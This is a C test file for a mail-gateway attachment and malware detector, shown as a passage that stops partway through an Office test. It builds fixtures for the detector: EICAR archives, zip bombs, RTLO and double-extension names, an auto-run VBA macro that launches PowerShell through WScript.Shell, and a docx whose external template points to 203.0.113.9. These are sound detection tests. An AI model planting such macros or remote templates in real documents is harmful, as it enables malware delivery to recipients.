/*
 * test_attach.c - the attachment and malware detector, message in, symbols
 * and action out, through the whole pipeline with default settings (but for
 * the network and the learning classifier, which are off).
 *
 * Fixtures are generated here at run time (zip with libarchive, OLE2 with
 * libgsf, MS-OVBA compression, PDF, HTML, LNK...): no malware is kept in the
 * project, and the only "malware" is the harmless EICAR test string and
 * ClamAV's test files.  Outside inputs, each skipped when absent:
 *   /usr/share/clamav-testfiles            (Debian's clamav-testfiles)
 *   $SEKISHO_SRC/../shared/corpus/malware-test, japanese/risky-synthetic,
 *   japanese/ham-synthetic                 (SEKISHO_CORPUS overrides)
 *   7z                                     (p7zip-full) for an encrypted 7z
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>
#include <dirent.h>
#include <gsf/gsf.h>
#include <gsf/gsf-outfile.h>
#include <gsf/gsf-outfile-msole.h>
#include <gsf/gsf-output-memory.h>
#include <gsf/gsf-utils.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "detect/attach.h"
#include "detect/detect.h"
#include "message/message.h"
#include "outbound/outbound.h"
#include "policy/pipeline.h"
#include "util/base64.h"
#include "util/config.h"
#include "util/util.h"

static const char EICAR[] =
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/* ---- buffers ---- */

struct buf {
	unsigned char *p;
	size_t len, cap;
};

static void
buf_add(struct buf *b, const void *p, size_t n)
{
	if (b->len + n + 1 > b->cap) {
		b->cap = (b->len + n + 1) * 2;
		b->p = xrealloc(b->p, b->cap);
	}
	memcpy(b->p + b->len, p, n);
	b->len += n;
	b->p[b->len] = 0;
}

static void
buf_str(struct buf *b, const char *s)
{
	buf_add(b, s, strlen(s));
}

/* ---- mail ---- */

struct att {
	const char *name;	/* UTF-8; RFC 2231 encoded when not ASCII */
	const char *type;
	const unsigned char *data;
	size_t len;
};

static char *
make_mail(const char *subject, const char *body, const struct att *atts, size_t n, size_t *len)
{
	struct buf b = { 0 };

	char date[64];
	time_t now = time(NULL);
	struct tm tm;

	gmtime_r(&now, &tm);
	strftime(date, sizeof(date), "Date: %a, %d %b %Y %H:%M:%S +0000\r\n", &tm);
	buf_str(&b, "From: Sender <sender@example.org>\r\nTo: user@sekisho.test\r\n"
	    "Message-ID: <t@example.org>\r\n");
	buf_str(&b, date);
	buf_str(&b, "Subject: ");
	buf_str(&b, subject);
	buf_str(&b, "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
	    "--BB\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
	buf_str(&b, body);
	buf_str(&b, "\r\n");
	for (size_t i = 0; i < n; i++) {
		int ascii = 1;
		char *enc;

		for (const char *p = atts[i].name; *p; p++)
			if ((unsigned char)*p >= 0x80 || *p == '"')
				ascii = 0;
		buf_str(&b, "--BB\r\nContent-Type: ");
		buf_str(&b, atts[i].type);
		buf_str(&b, "\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; ");
		if (ascii) {
			buf_str(&b, "filename=\"");
			buf_str(&b, atts[i].name);
			buf_str(&b, "\"");
		} else {
			buf_str(&b, "filename*=utf-8''");
			for (const unsigned char *p = (const unsigned char *)atts[i].name; *p; p++) {
				char hex[4];
				snprintf(hex, sizeof(hex), "%%%02X", *p);
				buf_str(&b, hex);
			}
		}
		buf_str(&b, "\r\n\r\n");
		enc = xmalloc(base64_encoded_len(atts[i].len) + 1);
		base64_encode(atts[i].data, atts[i].len, enc);
		for (size_t o = 0, el = strlen(enc); o < el; o += 76) {
			size_t l = el - o < 76 ? el - o : 76;
			buf_add(&b, enc + o, l);
			buf_str(&b, "\r\n");
		}
		free(enc);
	}
	buf_str(&b, "--BB--\r\n");
	*len = b.len;
	return (char *)b.p;
}

/* ---- the pipeline ---- */

static struct config *
make_config(const char *settings)
{
	struct config *cfg = config_new();
	char *copy = xstrdup(settings), *save = NULL, err[256];

	for (char *p = strtok_r(copy, ";", &save); p; p = strtok_r(NULL, ";", &save))
		if (config_override(cfg, p, err, sizeof(err)) < 0)
			fail_msg("setting %s: %s", p, err);
	free(copy);
	cfg->network_checks = 0;
	cfg->bayes_enable = 0;
	free(cfg->myhostname);
	cfg->myhostname = xstrdup("gw.sekisho.test");
	return cfg;
}

struct run {
	struct config *cfg;
	struct pipeline *pl;
	struct envelope *env;
};

static void
run_open(struct run *r, const char *settings)
{
	char err[512];

	r->cfg = make_config(settings);
	r->pl = pipeline_new(r->cfg, outbound_pipeline_ops(), err, sizeof(err));
	if (r->pl == NULL)
		fail_msg("pipeline: %s", err);
	r->env = envelope_new();
	r->env->listener = xstrdup("inbound");
	r->env->mail_from = xstrdup("sender@example.org");
	util_strlcpy(r->env->id, "test", sizeof(r->env->id));
	envelope_add_rcpt(r->env, "user@sekisho.test", NULL, 0);
}

static void
run_close(struct run *r)
{
	envelope_free(r->env);
	pipeline_free(r->pl);
	config_free(r->cfg);
}

static char *
symbols_of(const struct scan_result *res)
{
	struct buf b = { 0 };

	buf_str(&b, "");
	for (size_t i = 0; i < res->nsyms; i++) {
		buf_str(&b, res->syms[i].name);
		buf_str(&b, "(");
		buf_str(&b, res->syms[i].reason);
		buf_str(&b, ") ");
	}
	return (char *)b.p;
}

/*
 * Scan and check: every symbol of `want` (space-separated) is there, none
 * of `unwanted` is, and the action is `action` (NULL: any).
 */
static void
expect(struct run *r, const char *what, const char *mail, size_t len, const char *want,
    const char *unwanted, const char *action)
{
	struct verdict v;
	struct scan_result res;
	char *list, *save = NULL, *syms;
	int64_t t0 = util_mono_ms();

	if (pipeline_run_mem(r->pl, r->env, mail, len, &v, &res) < 0)
		fail_msg("%s: pipeline failed", what);
	syms = symbols_of(&res);
	print_message("  %-40s %-10s %lldms %s\n", what, action_name(v.action),
	    (long long)(util_mono_ms() - t0), syms);
	list = xstrdup(want);
	for (char *s = strtok_r(list, " ", &save); s; s = strtok_r(NULL, " ", &save))
		if (!result_has(&res, s))
			fail_msg("%s: %s missing; got %s", what, s, syms);
	free(list);
	list = xstrdup(unwanted ? unwanted : "");
	save = NULL;
	for (char *s = strtok_r(list, " ", &save); s; s = strtok_r(NULL, " ", &save))
		if (result_has(&res, s))
			fail_msg("%s: %s unexpected; got %s", what, s, syms);
	free(list);
	if (action != NULL && strcmp(action_name(v.action), action) != 0)
		fail_msg("%s: action %s, want %s; symbols %s", what, action_name(v.action), action,
		    syms);
	free(syms);
	verdict_clear(&v);
	scan_result_clear(&res);
}

static void
expect_att(struct run *r, const char *what, const char *body, const struct att *a, size_t n,
    const char *want, const char *unwanted, const char *action)
{
	size_t len;
	char *mail = make_mail(what, body, a, n, &len);

	expect(r, what, mail, len, want, unwanted, action);
	free(mail);
}

/* ---- fixtures ---- */

struct zent {
	const char *name;
	const void *data;
	size_t len;		/* with data NULL: len zero bytes */
};

static unsigned char *
make_archive(int format, const char *pw, const struct zent *e, size_t n, size_t *outlen)
{
	struct archive *a = archive_write_new();
	size_t cap = 8 << 20, used = 0;
	unsigned char *out = xmalloc(cap);
	static unsigned char zeros[1 << 20];

	if (format == 0)
		archive_write_set_format_zip(a);
	else
		archive_write_set_format_pax_restricted(a);
	if (format == 2)
		archive_write_add_filter_gzip(a);
	if (pw != NULL) {
		assert_int_equal(archive_write_set_options(a, "zip:encryption=zipcrypt"), ARCHIVE_OK);
		assert_int_equal(archive_write_set_passphrase(a, pw), ARCHIVE_OK);
	}
	assert_int_equal(archive_write_open_memory(a, out, cap, &used), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *en = archive_entry_new();

		archive_entry_set_pathname_utf8(en, e[i].name);
		archive_entry_set_filetype(en, AE_IFREG);
		archive_entry_set_perm(en, 0644);
		archive_entry_set_size(en, (la_int64_t)e[i].len);
		assert_int_equal(archive_write_header(a, en), ARCHIVE_OK);
		if (e[i].data != NULL)
			assert_true(archive_write_data(a, e[i].data, e[i].len) == (la_ssize_t)e[i].len);
		else
			for (size_t off = 0; off < e[i].len; off += sizeof(zeros)) {
				size_t k = e[i].len - off < sizeof(zeros) ? e[i].len - off : sizeof(zeros);
				assert_true(archive_write_data(a, zeros, k) == (la_ssize_t)k);
			}
		archive_entry_free(en);
	}
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	*outlen = used;
	return out;
}

static unsigned char *
zip1(const char *name, const void *data, size_t len, const char *pw, size_t *outlen)
{
	struct zent e = { name, data, len };

	return make_archive(0, pw, &e, 1, outlen);
}

/* MS-OVBA "compression" with literal tokens only (one chunk, < 3640 bytes). */
static unsigned char *
vba_compress(const char *src, size_t *outlen)
{
	size_t n = strlen(src), o = 3;
	unsigned char *out = xmalloc(n + n / 8 + 16);

	assert_true(n < 3600);
	out[0] = 0x01;
	for (size_t i = 0; i < n; i += 8) {
		out[o++] = 0x00;
		for (size_t k = i; k < i + 8 && k < n; k++)
			out[o++] = (unsigned char)src[k];
	}
	{
		unsigned h = (unsigned)(o - 1 - 3) | 0x3000 | 0x8000;
		out[1] = (unsigned char)h;
		out[2] = (unsigned char)(h >> 8);
	}
	*outlen = o;
	return out;
}

static void
ole_stream(GsfOutfile *dir, const char *name, const void *data, size_t len)
{
	GsfOutput *s = gsf_outfile_new_child(dir, name, FALSE);

	assert_non_null(s);
	assert_true(gsf_output_write(s, len, data));
	assert_true(gsf_output_close(s));
	g_object_unref(s);
}

/*
 * An OLE2 file with a VBA project: under `storage` ("" for vbaProject.bin,
 * "Macros" for a Word .doc) a VBA storage with dir, _VBA_PROJECT and the
 * module stream holding the compressed source.
 */
static unsigned char *
make_vba_ole(const char *storage, const char *source, size_t *outlen)
{
	GsfOutput *mem;
	GsfOutfile *ole, *top, *vba;
	size_t clen, dlen;
	unsigned char *c = vba_compress(source, &clen), *out;
	unsigned char *dir = vba_compress("\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00", &dlen);
	static const unsigned char vbaproj[] = { 0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00 };
	const guint8 *bytes;

	gsf_init();
	mem = gsf_output_memory_new();
	ole = gsf_outfile_msole_new(mem);
	top = ole;
	if (*storage) {
		top = GSF_OUTFILE(gsf_outfile_new_child(ole, storage, TRUE));
		ole_stream(ole, "WordDocument", "\xec\xa5\xc1\x00", 4);
	}
	vba = GSF_OUTFILE(gsf_outfile_new_child(top, "VBA", TRUE));
	ole_stream(vba, "dir", dir, dlen);
	ole_stream(vba, "_VBA_PROJECT", vbaproj, sizeof(vbaproj));
	ole_stream(vba, "Module1", c, clen);
	gsf_output_close(GSF_OUTPUT(vba));
	g_object_unref(vba);
	ole_stream(top, "PROJECT", "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n",
	    59);
	if (top != ole) {
		gsf_output_close(GSF_OUTPUT(top));
		g_object_unref(top);
	}
	gsf_output_close(GSF_OUTPUT(ole));
	g_object_unref(ole);
	bytes = gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(mem));
	*outlen = (size_t)gsf_output_size(mem);
	out = xmalloc(*outlen);
	memcpy(out, bytes, *outlen);
	g_object_unref(mem);
	free(c);
	free(dir);
	return out;
}

static const char VBA_DROPPER[] =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub AutoOpen()\r\n"
    "    Set s = CreateObject(\"WScript.Shell\")\r\n"
    "    s.Run \"powershell -NoProfile -Command calc\"\r\n"
    "End Sub\r\n";

static const char CT_DOCM[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
    "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
static const char DOC_XML[] =
    "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/"
    "wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>請求書</w:t></w:r></w:p>"
    "</w:body></w:document>";

static unsigned char *
make_docm(size_t *len)
{
	size_t vlen;
	unsigned char *vba = make_vba_ole("", VBA_DROPPER, &vlen), *out;
	struct zent e[] = {
		{ "[Content_Types].xml", CT_DOCM, sizeof(CT_DOCM) - 1 },
		{ "word/document.xml", DOC_XML, sizeof(DOC_XML) - 1 },
		{ "word/vbaProject.bin", vba, vlen },
	};

	out = make_archive(0, NULL, e, 3, len);
	free(vba);
	return out;
}

static unsigned char *
make_docx(int external, size_t *len)
{
	static const char rels[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
	    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	    "2006/relationships/attachedTemplate\" Target=\"http://203.0.113.9/t.dotm\" "
	    "TargetMode=\"External\"/></Relationships>";
	static const char links[] =
	    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
	    "package/2006/relationships\"><Relationship Id=\"rId9\" Type=\"http://schemas."
	    "openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
	    "Target=\"https://www.example.jp/\" TargetMode=\"External\"/></Relationships>";
	struct zent e[] = {
		{ "[Content_Types].xml", CT_DOCM, sizeof(CT_DOCM) - 1 },
		{ "word/document.xml", DOC_XML, sizeof(DOC_XML) - 1 },
		{ "word/_rels/document.xml.rels", links, sizeof(links) - 1 },
		{ "word/_rels/settings.xml.rels", rels, sizeof(rels) - 1 },
	};

	return make_archive(0, NULL, e, external ? 4 : 3, len);
}

static char *
make_pdf(const char *catalog_extra, const char *extra_obj)
{
	return xasprintf("%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n"
	    "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n%s\ntrailer\n<< /Root 1 0 R >>\n"
	    "%%%%EOF\n", catalog_extra, extra_obj);
}

/* ---- tests ---- */

static void
test_names(void **state)
{
	struct run r;
	static const unsigned char exe[] = "MZ\x90\x00\x03\x00\x00\x00 this is not really a program";
	static const unsigned char text[] = "harmless text";

	(void)state;
	run_open(&r, "");
	{
		struct att a = { "invoice.pdf.exe", "application/octet-stream", exe, sizeof(exe) };
		expect_att(&r, "double extension", "see attached", &a, 1,
		    "ATTACH_DOUBLE_EXT ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	}
	{
		/* full-width space between the two extensions */
		struct att a = { "請求書.pdf\xe3\x80\x80.exe", "application/pdf", text, sizeof(text) };
		expect_att(&r, "double extension, U+3000 padding", "ご確認ください", &a, 1,
		    "ATTACH_DOUBLE_EXT ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	}
	{
		/* "invoice<RLO>fdp.exe" shows as "invoiceexe.pdf" */
		struct att a = { "invoice\xe2\x80\xae" "fdp.exe", "application/pdf", exe, sizeof(exe) };
		expect_att(&r, "RTLO name", "see attached", &a, 1,
		    "ATTACH_BIDI_NAME ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	}
	{
		struct att a = { "請求書\xe2\x80\xae" "xcod.scr", "application/octet-stream", text,
		    sizeof(text) };
		expect_att(&r, "RTLO name (Japanese)", "ご確認ください", &a, 1,
		    "ATTACH_BIDI_NAME ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	}
	{
		/* an executable under a picture's name */
		struct att a = { "photo.jpg", "image/jpeg", exe, sizeof(exe) };
		expect_att(&r, "exe named .jpg", "photo", &a, 1,
		    "ATTACH_TYPE_MISMATCH ATTACH_DANGEROUS_TYPE", "ATTACH_DOUBLE_EXT", "quarantine");
	}
	{
		/* ordinary names stay quiet */
		struct att a[] = {
			{ "見積書_2025年6月.pdf", "application/pdf", (const unsigned char *)"%PDF-1.4\n%%EOF\n", 15 },
			{ "report.v1.2.txt", "text/plain", text, sizeof(text) - 1 },
			{ "logs.tar.gz.txt", "text/plain", text, sizeof(text) - 1 },
		};
		expect_att(&r, "ordinary names", "資料をお送りします", a, 3, "",
		    "ATTACH_DOUBLE_EXT ATTACH_BIDI_NAME ATTACH_DANGEROUS_TYPE ATTACH_TYPE_MISMATCH "
		    "MALWARE_FOUND MALWARE_SCAN_ERROR", "deliver");
	}
	run_close(&r);
}

static void
test_eicar_generated(void **state)
{
	struct run r;
	size_t z1, z2;
	unsigned char *zip = zip1("eicar.com", EICAR, sizeof(EICAR) - 1, NULL, &z1);
	unsigned char *zz = zip1("eicar_com.zip", zip, z1, NULL, &z2);

	(void)state;
	run_open(&r, "");
	{
		struct att a = { "eicar.txt", "text/plain", (const unsigned char *)EICAR, sizeof(EICAR) - 1 };
		expect_att(&r, "EICAR plain", "test", &a, 1, "MALWARE_FOUND", NULL, "quarantine");
	}
	{
		struct att a = { "eicar.zip", "application/zip", zip, z1 };
		expect_att(&r, "EICAR zipped", "test", &a, 1, "MALWARE_FOUND ARCHIVE_NESTED_DANGEROUS",
		    NULL, "quarantine");
	}
	{
		struct att a = { "eicarcom2.zip", "application/zip", zz, z2 };
		expect_att(&r, "EICAR zipped twice", "test", &a, 1, "MALWARE_FOUND", NULL, "quarantine");
	}
	{
		struct att a = { "invoice.pdf", "application/pdf", (const unsigned char *)EICAR,
		    sizeof(EICAR) - 1 };
		expect_att(&r, "EICAR renamed .pdf", "test", &a, 1, "MALWARE_FOUND", NULL, "quarantine");
	}
	{
		/* a sender allow-list does not let a virus through */
		struct run r2;
		struct att a = { "eicar.zip", "application/zip", zip, z1 };
		run_open(&r2, "sender_allowlist=example.org");
		expect_att(&r2, "EICAR from an allow-listed sender", "test", &a, 1, "MALWARE_FOUND",
		    NULL, "quarantine");
		run_close(&r2);
	}
	run_close(&r);
	free(zip);
	free(zz);
}

/* Every file of Debian's clamav-testfiles is found with our own signatures. */
static void
test_clamav_testfiles(void **state)
{
	const char *dir = "/usr/share/clamav-testfiles";
	struct dirent **names = NULL;
	struct run r;
	int n;
	size_t found = 0;

	(void)state;
	n = scandir(dir, &names, NULL, alphasort);
	if (n <= 0) {
		print_message("  %s absent: skipped\n", dir);
		skip();
	}
	run_open(&r, "");
	for (int i = 0; i < n; i++) {
		char *path = xasprintf("%s/%s", dir, names[i]->d_name);
		size_t len;
		char *data;

		if (names[i]->d_name[0] == '.' || (data = util_read_file(path, 64 << 20, &len)) == NULL) {
			free(path);
			free(names[i]);
			continue;
		}
		{
			struct att a = { names[i]->d_name, "application/octet-stream",
			    (const unsigned char *)data, len };
			expect_att(&r, names[i]->d_name, "ClamAV test file", &a, 1, "MALWARE_FOUND",
			    NULL, "quarantine");
		}
		found++;
		free(data);
		free(path);
		free(names[i]);
	}
	free(names);
	print_message("  %zu clamav-testfiles: all MALWARE_FOUND\n", found);
	assert_true(found >= 40);
	run_close(&r);
}

static char *
corpus_dir(const char *sub)
{
	const char *c = getenv("SEKISHO_CORPUS"), *src = getenv("SEKISHO_SRC");
	char *d;
	struct stat st;

	if (c != NULL)
		d = xasprintf("%s/%s", c, sub);
	else if (src != NULL)
		d = xasprintf("%s/../shared/corpus/%s", src, sub);
	else
		return NULL;
	if (stat(d, &st) < 0 || !S_ISDIR(st.st_mode)) {
		free(d);
		return NULL;
	}
	return d;
}

static void
expect_file(struct run *r, const char *dir, const char *name, const char *want,
    const char *unwanted, const char *action)
{
	char *path = xasprintf("%s/%s", dir, name);
	size_t len;
	char *data = util_read_file(path, 64 << 20, &len);

	if (data == NULL)
		fail_msg("%s: unreadable", path);
	expect(r, name, data, len, want, unwanted, action);
	free(data);
	free(path);
}

static void
test_corpus_malware(void **state)
{
	char *dir = corpus_dir("malware-test");
	struct run r;

	(void)state;
	if (dir == NULL)
		skip();
	run_open(&r, "");
	expect_file(&r, dir, "eicar-attach-com.eml", "MALWARE_FOUND ATTACH_DANGEROUS_TYPE", NULL,
	    "quarantine");
	expect_file(&r, dir, "eicar-attach-zip.eml", "MALWARE_FOUND ARCHIVE_NESTED_DANGEROUS", NULL,
	    "quarantine");
	expect_file(&r, dir, "eicar-attach-doublezip.eml", "MALWARE_FOUND", NULL, "quarantine");
	expect_file(&r, dir, "eicar-attach-misleading-ext.eml", "MALWARE_FOUND", NULL, "quarantine");
	run_close(&r);
	free(dir);
}

static void
test_corpus_risky(void **state)
{
	char *dir = corpus_dir("japanese/risky-synthetic");
	static const char bad[] = "MALWARE_FOUND MALWARE_SCAN_ERROR MALWARE_SCAN_TIMEOUT "
	    "ATTACH_DANGEROUS_TYPE ATTACH_DOUBLE_EXT ATTACH_BIDI_NAME ATTACH_TYPE_MISMATCH "
	    "ARCHIVE_BOMB ARCHIVE_CORRUPT";
	struct run r;

	(void)state;
	if (dir == NULL)
		skip();
	run_open(&r, "");
	expect_file(&r, dir, "risky-29-encrypted-zip-password-in-body.eml",
	    "ARCHIVE_ENCRYPTED ARCHIVE_PASSWORD_IN_BODY", bad, NULL);
	expect_file(&r, dir, "risky-34-encrypted-zip-password-separate.eml",
	    "ARCHIVE_ENCRYPTED", "ARCHIVE_PASSWORD_IN_BODY MALWARE_FOUND ARCHIVE_BOMB", NULL);
	expect_file(&r, dir, "risky-35-encrypted-zip-password-separate.eml", "", bad, NULL);
	expect_file(&r, dir, "risky-40-dangerous-filename.eml",
	    "ATTACH_DOUBLE_EXT ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	expect_file(&r, dir, "risky-41-dangerous-filename.eml",
	    "ATTACH_DOUBLE_EXT ATTACH_DANGEROUS_TYPE", NULL, "quarantine");
	expect_file(&r, dir, "risky-47-html-attachment-credential-form.eml",
	    "ATTACH_HTML_CREDENTIAL_FORM", "ATTACH_HTML_SMUGGLING", NULL);
	expect_file(&r, dir, "risky-58-dlp-confidential.eml", "", bad, NULL);
	run_close(&r);
	free(dir);
}

/* Japanese business mail with ordinary PDFs, spreadsheets and archives:
 * no attachment symbol that would quarantine or tag. */
static void
test_corpus_ham(void **state)
{
	char *dir = corpus_dir("japanese/ham-synthetic");
	struct dirent **names = NULL;
	struct run r;
	int n = 0;

	(void)state;
	if (dir == NULL || (n = scandir(dir, &names, NULL, alphasort)) <= 0) {
		free(dir);
		skip();
	}
	run_open(&r, "");
	for (int i = 0; i < n; i++) {
		if (strstr(names[i]->d_name, ".eml") != NULL)
			expect_file(&r, dir, names[i]->d_name, "",
			    "MALWARE_FOUND MALWARE_SCAN_ERROR MALWARE_SCAN_TIMEOUT ATTACH_DANGEROUS_TYPE "
			    "ATTACH_DOUBLE_EXT ATTACH_BIDI_NAME ATTACH_TYPE_MISMATCH ATTACH_HTML_SMUGGLING "
			    "ARCHIVE_BOMB ARCHIVE_CORRUPT ARCHIVE_NESTED_DANGEROUS OFFICE_MACRO YARA_MATCH "
			    "PDF_LAUNCH PDF_JAVASCRIPT", NULL);
		free(names[i]);
	}
	free(names);
	run_close(&r);
	free(dir);
}

static void
test_encrypted_zip(void **state)
{
	struct run r;
	size_t zl, bl;
	unsigned char *zip = zip1("請求書.com", EICAR, sizeof(EICAR) - 1, "gmE9NWtSHe", &zl);
	unsigned char *benign = zip1("請求書.txt", "ご請求金額 10,000円", 23, "nJdby4Tq", &bl);
	static const char *const bodies[] = {
		"請求書をお送りします。\nパスワード： gmE9NWtSHe\nよろしくお願いいたします。",
		"添付ファイルのパスワードは gmE9NWtSHe です。",
		"解凍パスワード（半角英数字）：ｇｍＥ９ＮＷｔＳＨｅ",
		"PW：gmE9NWtSHe",
		"Please find the invoice attached.\nPassword: gmE9NWtSHe\nBest regards",
		"The password for the zip is \"gmE9NWtSHe\".",
		"pass: gmE9NWtSHe",
		"パスワードは以下のとおりです。\n\n  gmE9NWtSHe\n\n山田",
	};

	(void)state;
	run_open(&r, "");
	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
		struct att a = { "請求書.zip", "application/zip", zip, zl };
		char what[64];
		snprintf(what, sizeof(what), "encrypted zip, password phrasing %zu", i + 1);
		/* the EICAR inside is only visible once the password opened it */
		expect_att(&r, what, bodies[i], &a, 1,
		    "ARCHIVE_ENCRYPTED ARCHIVE_PASSWORD_IN_BODY MALWARE_FOUND ARCHIVE_NESTED_DANGEROUS",
		    NULL, "quarantine");
	}
	{
		/* no password in the body: flagged, the names still checked */
		struct att a = { "請求書.zip", "application/zip", zip, zl };
		expect_att(&r, "encrypted zip, password sent separately",
		    "パスワードは別途お送りします。", &a, 1,
		    "ARCHIVE_ENCRYPTED ARCHIVE_NESTED_DANGEROUS",
		    "ARCHIVE_PASSWORD_IN_BODY MALWARE_FOUND", NULL);
	}
	{
		/* a benign encrypted invoice (PPAP) is flagged but not quarantined */
		struct att a = { "請求書.zip", "application/zip", benign, bl };
		expect_att(&r, "benign encrypted zip (PPAP)", "パスワード: nJdby4Tq", &a, 1,
		    "ARCHIVE_ENCRYPTED ARCHIVE_PASSWORD_IN_BODY",
		    "MALWARE_FOUND ARCHIVE_NESTED_DANGEROUS ARCHIVE_BOMB", "deliver");
	}
	run_close(&r);
	free(zip);
	free(benign);
}

static void
test_encrypted_7z(void **state)
{
	char dir[] = "/tmp/sekisho-7z-XXXXXX", *cmd, *path;
	struct run r;
	size_t len;
	char *data;
	int rc;

	(void)state;
	if (system("command -v 7z >/dev/null 2>&1") != 0) {
		print_message("  7z absent: skipped\n");
		skip();
	}
	assert_non_null(mkdtemp(dir));
	cmd = xasprintf("cd %s && printf 'invoice' > inv.txt && 7z a -bd -pS3cret77 -mhe=on a.7z inv.txt "
	    ">/dev/null 2>&1", dir);
	rc = system(cmd);
	free(cmd);
	assert_int_equal(rc, 0);
	path = xasprintf("%s/a.7z", dir);
	data = util_read_file(path, 1 << 20, &len);
	assert_non_null(data);
	run_open(&r, "");
	{
		struct att a = { "invoice.7z", "application/x-7z-compressed", (unsigned char *)data, len };
		expect_att(&r, "encrypted 7z (headers too)", "パスワード: S3cret77", &a, 1,
		    "ARCHIVE_ENCRYPTED", "MALWARE_FOUND", NULL);
	}
	run_close(&r);
	free(data);
	cmd = xasprintf("rm -rf %s", dir);
	rc = system(cmd);
	(void)rc;
	free(cmd);
	free(path);
}

static long
max_rss_kb(void)
{
	struct rusage ru;

	getrusage(RUSAGE_SELF, &ru);
	return ru.ru_maxrss;
}

static void
test_bombs(void **state)
{
	struct run r;
	size_t zl, nl, el;
	unsigned char *zip, *nested, *many;
	struct zent *ents;
	long rss0;
	int64_t t0;

	(void)state;
	/* 1 GiB of zeros in a 1 MiB zip */
	{
		struct zent e = { "zeros.bin", NULL, (size_t)1 << 30 };
		zip = make_archive(0, NULL, &e, 1, &zl);
	}
	/* a zip inside a zip ... eight levels down */
	nested = zip1("payload.txt", "hello", 5, NULL, &nl);
	for (int i = 0; i < 8; i++) {
		char name[32];
		size_t l;
		unsigned char *n2;
		snprintf(name, sizeof(name), "level%d.zip", i);
		n2 = zip1(name, nested, nl, NULL, &l);
		free(nested);
		nested = n2;
		nl = l;
	}
	/* 3000 entries */
	ents = xcalloc(3000, sizeof(*ents));
	for (int i = 0; i < 3000; i++) {
		ents[i].name = xasprintf("f%04d.txt", i);
		ents[i].data = "x";
		ents[i].len = 1;
	}
	many = make_archive(0, NULL, ents, 3000, &el);

	run_open(&r, "");
	rss0 = max_rss_kb();
	t0 = util_mono_ms();
	{
		struct att a = { "bomb.zip", "application/zip", zip, zl };
		print_message("  zip of 1 GiB zeros: %zu bytes\n", zl);
		expect_att(&r, "zip bomb (ratio)", "bomb", &a, 1, "ARCHIVE_BOMB", NULL, "quarantine");
	}
	print_message("  bomb: %lld ms, peak RSS %ld -> %ld KiB\n",
	    (long long)(util_mono_ms() - t0), rss0, max_rss_kb());
	assert_true(util_mono_ms() - t0 < 30000);
	/* bounded memory: far below the 1 GiB it would expand to */
	assert_true(max_rss_kb() - rss0 < 400 * 1024);
	{
		struct att a = { "nested.zip", "application/zip", nested, nl };
		expect_att(&r, "nested zips (depth)", "nested", &a, 1, "ARCHIVE_BOMB", NULL,
		    "quarantine");
	}
	{
		struct att a = { "many.zip", "application/zip", many, el };
		expect_att(&r, "3000 entries", "many", &a, 1, "ARCHIVE_BOMB", NULL, "quarantine");
	}
	run_close(&r);
	for (int i = 0; i < 3000; i++)
		free((char *)(uintptr_t)ents[i].name);
	free(ents);
	free(zip);
	free(nested);
	free(many);
}

static void
test_office(void **state)
{
	struct run r;
	size_t dl, ol, xl, cl;
	unsigned char *docm = make_docm(&dl);
	unsigned char *doc = make_vba_ole("Macros", VBA_DROPPER, &ol);
	unsigned char *ext = make_docx(1, &xl), *clean = make_docx(0, &cl);

	(void)state;
	run_open(&r, "");
	{
		struct att a = { "請求書.docm", "application/vnd.ms-word.document.macroEnabled.12",
		    docm, dl };
		expect_att(&r, "OOXML with vbaProject.bin", "ご確認ください", &a, 1,
		    "OFFICE_MACRO OFFICE_MACRO_AUTOEXEC OFFICE_MACRO_SUSPICIOUS YARA_MATCH", NULL,
		    "quarantine");
	}
	{
		struct att a = { "請求書.doc", "application/msword", doc, ol };
		expect_att(&r, "OLE2 .doc with a VBA storage", "ご確認ください", &a, 1,
		    "OFFICE_MACRO OFFICE_MACRO_AUTOEXEC OFFICE_MACRO_SUSPICIOUS YARA_MATCH", NULL,
		    "quarantine");
	}
	{
		struct att a = { "template.docx", "application/vnd.openxmlformats-officedocument."
		    "wordprocessingml.document", ext, xl };
